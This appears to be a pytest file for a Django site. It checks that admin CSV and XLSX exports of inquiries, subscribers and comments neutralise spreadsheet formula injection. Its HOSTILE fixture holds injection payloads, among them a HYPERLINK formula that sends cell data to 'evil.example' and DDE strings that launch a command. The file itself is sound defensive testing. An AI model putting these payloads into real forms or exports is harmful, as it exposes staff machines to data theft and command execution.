"""Every admin export of visitors' text opens inert in a spreadsheet, as CSV and as XLSX."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import User

from blog.models import Comment
from tests.blog_factories import add_post, build_blog
from tests.inquiry_factories import InquiryFactory
from tests.newsletter_factories import SubscriberFactory

# What an attacker would type into a form, one per dangerous first character.
HOSTILE = {
    "=": '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def download(client, url, export_format):
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(client, url):
    text = download(client, url, "csv").decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def xlsx_cells(client, url):
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, url, "xlsx"))).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


@pytest.fixture
def staff(client, db):
    client.force_login(User.objects.create_superuser("boss", "boss@example.com", "pw"))
    return client


def assert_csv_inert(values):
    """Each hostile text is exported once, behind an apostrophe; no cell starts dangerously."""
    for text in HOSTILE.values():
        assert "'" + text in values
    assert not [value for value in values if value.startswith(tuple(HOSTILE))]


def assert_xlsx_inert(cells):
    """Excel runs only formula cells: every hostile text is a plain string cell."""
    for text in HOSTILE.values():
        stored = text.replace("\r", "\n")  # XML reads a lone CR back as LF
        matching = [cell for cell in cells if cell.value == stored]
        assert matching and all(cell.data_type == "s" for cell in matching)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_inquiry_export_neutralises_formulas(staff):
    for text in HOSTILE.values():
        InquiryFactory(name=text, message=text, best_times="evenings")
    rows = csv_rows(staff, "/admin/contact/inquiries/")
    assert len(rows) == len(HOSTILE)
    assert_csv_inert([row["Name"] for row in rows])
    assert_csv_inert([row["Message"] for row in rows])
    assert all(row["Email"].endswith("@example.com") for row in rows)  # ordinary text untouched
    assert_xlsx_inert(xlsx_cells(staff, "/admin/contact/inquiries/"))


def test_subscriber_export_neutralises_formulas(staff):
    for number, text in enumerate(HOSTILE.values()):
        SubscriberFactory(email=f"r{number}@example.com", first_name=text)
    rows = csv_rows(staff, "/admin/newsletter_subscribers/")
    assert len(rows) == len(HOSTILE)
    assert_csv_inert([row["First name"] for row in rows])
    assert {row["Email address"] for row in rows} == {f"r{n}@example.com" for n in range(6)}
    assert_xlsx_inert(xlsx_cells(staff, "/admin/newsletter_subscribers/"))


def test_comment_export_neutralises_formulas(staff):
    blog, tabitha, _ = build_blog()
    post = add_post(blog, "A post", authors=[tabitha])
    for text in HOSTILE.values():
        Comment.objects.create(post=post, name=text, email="x@example.com", body=text)
    rows = csv_rows(staff, "/admin/snippets/blog/comment/")
    assert len(rows) == len(HOSTILE)
    assert_csv_inert([row["Name"] for row in rows])
    assert_csv_inert([row["Comment"] for row in rows])
    assert {row["Email"] for row in rows} == {"x@example.com"}
    assert_xlsx_inert(xlsx_cells(staff, "/admin/snippets/blog/comment/"))
